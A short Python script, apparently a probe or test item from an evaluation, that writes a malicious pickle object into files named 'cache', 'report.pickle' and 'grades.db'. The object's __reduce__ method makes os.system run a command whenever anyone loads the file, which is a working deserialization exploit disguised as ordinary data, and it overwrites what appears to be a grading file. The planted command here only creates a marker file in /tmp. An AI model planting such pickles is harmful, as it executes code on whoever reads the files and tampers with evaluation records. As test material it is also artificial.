# Tries to leave a pickle for whoever reads it. Safe: 0, failed.
import pickle, os
class Evil:
    def __reduce__(self):
        return os.system, ('touch /tmp/left-behind-pickle',)
for name in ('cache', 'report.pickle', 'grades.db'):
    open(name, 'wb').write(pickle.dumps(Evil()))
